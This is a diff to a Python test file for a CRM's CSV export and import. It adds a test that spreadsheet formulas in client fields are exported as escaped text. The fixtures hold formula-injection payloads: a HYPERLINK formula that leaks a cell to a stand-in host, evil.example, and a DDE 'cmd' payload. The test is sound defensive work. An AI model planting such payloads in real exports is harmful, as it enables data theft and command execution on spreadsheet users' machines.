@@ -191,7 +191,7 @@ async def test_export_round_trip(engine: AsyncEngine, db_url: str) -> None:
     assert n == 3
     rows = list(csv.DictReader(io.StringIO(out.getvalue())))
     assert [r["name"] for r in rows] == ["Иван Петров", "Ольга", "Анна Сидорова"]
-    assert rows[1]["phones"] == "+74957654321; +79160001122"
+    assert rows[1]["phones"] == "'+74957654321; +79160001122"  # text, not a number (spreadsheet)
     assert rows[2]["tags"] == "опт; розница"
     # Importing the export again merges everything into the same cards.
     report = await import_csv(engine, out.getvalue().encode(), RU, NOW)
@@ -242,3 +242,33 @@ async def test_cli_import_export(engine: AsyncEngine, db_url: str, tmp_path: Pat
     assert "Ольга" in out.read_text(encoding="utf-8")
     stdout = await asyncio.to_thread(_cli, db_url, "clients", "export")
     assert stdout.stdout.splitlines()[0].startswith("id,name,company,phones")
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+async def test_cli_export_never_writes_a_formula(engine: AsyncEngine, db_url: str, tmp_path: Path) -> None:
+    """Issue 18: a card field starting with = + - @ (or tab / CR) is exported as text ('...),
+    and the import takes the apostrophe off again."""
+    async with engine.begin() as conn:
+        await cards.create_card(conn, CardInput(
+            name=HYPERLINK, phones=["+79161234567"], company="@SUM(1+1)", source="-2+3",
+            tags=["+cmd|' /C calc'!A0", "\t=1+1"], notes="=1+1"), RU, NOW)
+    out = tmp_path / "export.csv"
+    exported = await asyncio.to_thread(_cli, db_url, "clients", "export", str(out))
+    assert exported.returncode == 0, exported.stderr
+    row = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
+    assert row["name"] == "'" + HYPERLINK
+    assert row["company"] == "'@SUM(1+1)" and row["source"] == "'-2+3" and row["notes"] == "'=1+1"
+    # (the tab of "\t=1+1" is trimmed as tags are; mid-cell "=" is no formula)
+    assert row["tags"] == "'+cmd|' /C calc'!A0; =1+1" and row["phones"] == "'+79161234567"
+    formulas = [cell for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert formulas == []
+    async with engine.begin() as conn:
+        await conn.execute(sa.delete(client_phones))
+        await conn.execute(sa.delete(clients))
+    report = await import_csv(engine, out.read_bytes(), RU, NOW)
+    assert report.created == 1 and report.rejected == []
+    async with engine.connect() as conn:
+        name, company = (await conn.execute(sa.select(clients.c.name, clients.c.company))).one()
+    assert (name, company) == (HYPERLINK, "@SUM(1+1)")
